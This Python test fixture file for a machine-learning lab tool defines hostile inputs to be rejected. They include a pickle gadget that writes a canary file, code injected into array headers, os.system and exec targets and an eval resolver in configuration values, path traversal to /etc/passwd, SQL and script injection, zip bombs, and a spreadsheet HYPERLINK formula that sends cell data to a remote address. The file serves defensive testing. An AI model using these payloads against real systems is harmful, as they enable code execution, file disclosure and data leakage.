"""What somebody may put where the lab reads: words, paths, specifications, arrays and models that are to do nothing."""

import io
import json
import pickle
import struct
import sys
import zipfile
from pathlib import Path
from typing import Any

import numpy as np
import pytest

from threshold_lab.app import main
from threshold_lab.provenance import provenance
from threshold_lab.recording import Origin

ORIGIN = Origin("20260101-000000-abcdef", "threshold-lab sweep", provenance(), {"store": "mlruns"})

CANARY = "canary"
"""The file that whatever is executed would make."""

CONTROL = "\x1b[2J\x1b[31mred\x07\x08\r\u202egnp.exe"
SCRIPT = "</script><script>alert(1)</script><img src=x onerror=alert(2)>"
LINK = "[click](javascript:alert(1)) ![x](http://192.0.2.1/x.png)"
FORMULA = '=HYPERLINK("http://192.0.2.1/"&A1)'
FORMAT = "%s%n%x {0.__class__} {config} ${oc.env:HOME} {{7*7}} `id` $(id)"
SQL = "x' OR '1'='1'; DROP TABLE runs; --"
CELLS = (
    SCRIPT,
    LINK,
    FORMULA,
    FORMAT,
    SQL,
    "@SUM(1)",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "../../etc/passwd",
    "\U0001f4a3" * 99,
)

WORDS = {
    "nothing": "",
    "a folder up": "../../../etc/passwd",
    "an absolute path": "/etc/passwd",
    "a folder of this one": ".",
    "one digit less": "0" * 31,
    "one digit more": "0" * 33,
    "no digits": "g" * 32,
    "capital digits": "A" * 32,
    "digits of another script": "\u0661" * 32,
    "10 KB": "a" * 10_000,
    "1 MB": "0" * 1_000_000,
    "a line end": "0" * 31 + "\n",
    "a line end after it": "0" * 32 + "\n",
    "a zero byte": "0" * 31 + "\0",
    "SQL": SQL,
    "a filter": "' OR tags.`lab.key` LIKE '%",
    "terminal escapes": CONTROL,
    "a script": SCRIPT,
    "a format": FORMAT,
    "an address": "http://192.0.2.1/runs",
    "a model's address": "models:/evil/1",
    "a pickle": "\x80\x04cos",
}
"""Given where a run's id, a sweep's name or a run's artifact is asked for."""


class Touch:
    """Whoever unpickles it makes a file."""

    def __init__(self, path: Path) -> None:
        self.path = path

    def __reduce__(self) -> Any:
        return open, (str(self.path), "w")


def npy(header: str, content: bytes = b"") -> bytes:
    """An array file whose header says what it likes."""
    words = header.encode() + b" " * (-(len(header) + 11) % 64) + b"\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(words)) + words + content


def packed(members: dict[str, bytes], how: int = zipfile.ZIP_STORED) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", how) as archive:
        for name, content in members.items():
            archive.writestr(name, content)
    return buffer.getvalue()


def claimed(shape: str, content: bytes = bytes(8), kind: str = "'<f4'") -> dict[str, bytes]:
    """A member that says of its bytes what shape and kind of array they are."""
    return {"a.npy": npy(f"{{'descr': {kind}, 'fortran_order': False, 'shape': {shape}, }}", content)}


def arrays(canary: Path) -> dict[str, bytes]:
    """Files of arrays that are none; each is to be told as damaged."""
    evil, code = pickle.dumps(Touch(canary)), f"open({str(canary)!r}, 'w')"
    objects = io.BytesIO()
    np.save(objects, np.array([Touch(canary)], dtype=object), allow_pickle=True)
    whole = packed(claimed("(2,)"))
    return {
        "a pickle": evil,
        "a pickle called .npz": b"PK\x03\x04" + evil,
        "an array of objects": packed({"weights/0.npy": objects.getvalue()}),
        "a pickle as a member": packed({"weights/0.npy": evil}),
        "a pickled field": packed(claimed("(1,)", kind="[('a', '|O')]")),
        "code for a header": packed({"a.npy": npy(code)}),
        "code for a kind": packed(claimed("(1,)", kind=code)),
        "code for a shape": packed(claimed(f"({code},)")),
        "a header of brackets": packed({"a.npy": npy("(" * 5000)}),
        "a shape of a terabyte": packed(claimed(f"({10**12},)")),
        "a shape beyond all bytes": packed(claimed(f"({2**62}, {2**62})")),
        "a shape below zero": packed(claimed("(-1,)")),
        "more rows than bytes": packed(claimed("(9,)")),
        "a bomb": packed(claimed(f"({2**20},)", bytes(2**20), "'|u1'"), zipfile.ZIP_DEFLATED),
        "a bomb of LZMA": packed({"a.npy": bytes(2**20)}, zipfile.ZIP_LZMA),
        "no array": packed({"a.npy": b"no array"}),
        "half of it": whole[: len(whole) // 2],
        "no end": whole[:-10],
        "one byte": b"P",
        "nothing": b"",
        "text": b"weights\n1\n2\n",
    }


SPECS = {
    "nothing": b"",
    "no JSON": b"\x80\x04cos\nsystem\n.",
    "half a file": b'{"activation": "sigm',
    "a list": b"[]",
    "a number": b"1",
    "null": b"null",
    "deep lists": b"[" * 99_000,
    "deep groups": b'{"a":' * 15_000,
    "a mebibyte": b'{"loss": "' + b"x" * 2**20 + b'"}',
    "UTF-16": '{"a": 1}'.encode("utf-16"),
    "a number of many digits": b'{"seeds": ' + b"9" * 6000 + b"}",
    "NaN": b'{"epochs": NaN}',
    "infinity": b'{"epochs": Infinity}',
}
"""Bytes of spec.json that are none."""

CHANGED = {
    "_target_": {"_target_": "os.system", "_args_": [f"touch {CANARY}"]},
    "_target_ in network": {"network": {"_target_": "os.system", "_args_": [f"touch {CANARY}"]}},
    "_target_ in optimizer": {"optimizer": {"name": "sgd", "_target_": "builtins.exec"}},
    "_target_ in data": {"data": {"source": "csv", "_target_": "pandas.read_pickle", "path": "x.pkl", "target": "y"}},
    "an interpolation": {"activation": "${oc.env:HOME}"},
    "a resolver": {"threshold": '${eval:\'__import__("os").system("touch canary")\'}'},
    "a decoded number": {"epochs": "${oc.decode:3}"},
    "a missing value": {"epochs": "???"},
    "code for a loss": {"loss": f"__import__('os').system('touch {CANARY}')"},
    "a module for a loss": {"loss": "os.system"},
    "code for an initializer": {"network": {"initializer": "lambda: 1"}},
    "a Python tuple": {"targets": "!!python/tuple [0, 1]"},
    "a truth for a number": {"epochs": True},
    "a text for a number": {"epochs": "3"},
    "a list for a number": {"seeds": [2]},
    "many seeds": {"seeds": 10**9},
    "a trillion epochs": {"epochs": 10**12},
    "a wide layer": {"network": {"hidden": [10**9], "dropout": [0.0]}},
    "many layers": {"network": {"hidden": [1] * 9000, "dropout": [0.0] * 9000}},
    "a trillion rows": {"data": {"source": "moons", "rows": 10**12}},
    "10 KB for a name": {"activation": "s" * 10_000},
    "SQL for a name": {"loss": SQL},
    "escapes for a name": {"loss": CONTROL},
    "a path above": {"data": {"source": "csv", "path": "../../../etc/passwd", "target": 0}},
    "an absolute path": {"data": {"source": "csv", "path": "/etc/passwd", "target": 0}},
    "a device": {"data": {"source": "csv", "path": "/dev/zero", "target": 0}},
    "an address": {"data": {"source": "csv", "path": "http://192.0.2.1/x.csv", "target": 0}},
    "a bucket": {"data": {"source": "csv", "path": "s3://evil/x.csv", "target": 0}},
    "a zero byte": {"data": {"source": "csv", "path": "a\0b", "target": 0}},
    "another source": {"data": {"source": "pickle", "path": "x"}},
    "a key more": {"extra": 1},
    "__class__": {"__class__": "x", "__dict__": {}},
}
"""Values of a specification that was changed where it is stored."""


def changed(spec: bytes, name: str) -> bytes:
    """A stored specification with other values."""
    return json.dumps(json.loads(spec) | CHANGED[name], sort_keys=True, separators=(",", ":")).encode()


def said(capsys, monkeypatch, *words: str) -> tuple[str, str, object]:
    """What the command line prints in this process, and how it ends."""
    monkeypatch.setattr(sys, "argv", ["threshold-lab", *words])
    with pytest.raises(SystemExit) as ended:
        main()
    out, err = capsys.readouterr()
    assert "Traceback" not in out + err
    assert "\x1b" not in out + err
    return out, err, ended.value.code


LOGITS = {
    "texts": {"logits": np.full((2, 30, 1), "x"), "labels": np.zeros(30, bool)},
    "one number": {"logits": np.float32(1), "labels": np.zeros(30, bool)},
    "other rows": {"logits": np.zeros((2, 5, 1), np.float32), "labels": np.zeros(30, bool)},
    "other networks": {"logits": np.zeros((9, 30, 1), np.float32), "labels": np.zeros(30, bool)},
    "no labels": {"logits": np.zeros((2, 30, 1), np.float32)},
    "nothing": {},
}


PLANS = {
    "a list": b"[]",
    "half": b'{"jobs": [{"key": "',
    "deep": b"[" * 99_000,
    "jobs of text": b'{"jobs": "x"}',
    "a job without a key": b'{"jobs": [{"lanes": []}]}',
    "SQL for a cell": json.dumps({"jobs": [{"key": "0" * 64, "cell": "x' OR '1'='1", "lanes": []}]}).encode(),
    "a path for a lane": json.dumps({"jobs": [{"key": "0" * 64, "cell": "0" * 64, "lanes": ["../../x"]}]}).encode(),
    "a number for a key": b'{"jobs": [{"key": 1, "cell": 2, "lanes": []}]}',
    "a pickle": b"\x80\x04cos\nsystem\n.",
    "escapes": json.dumps({"jobs": [{"key": CONTROL, "cell": CONTROL, "lanes": []}]}).encode(),
}


TABLES = {
    "nothing": b"",
    "a pickle": b"\x80\x04cos\nsystem\n.",
    "no columns": b"\n\n",
    "other columns": b"a,b\n1,2\n",
    "a quote": b'"\n',
    "a zero byte": b"study,name\n\0,1\n",
    "UTF-16": "study,name\n1,2\n".encode("utf-16"),
    "a field without end": b"study\n" + b"x" * 200_000,
    "formulas": b"seed,part,rule,accuracy,threshold\n=1+1,test,0.5,=cmd,@x\n",
}
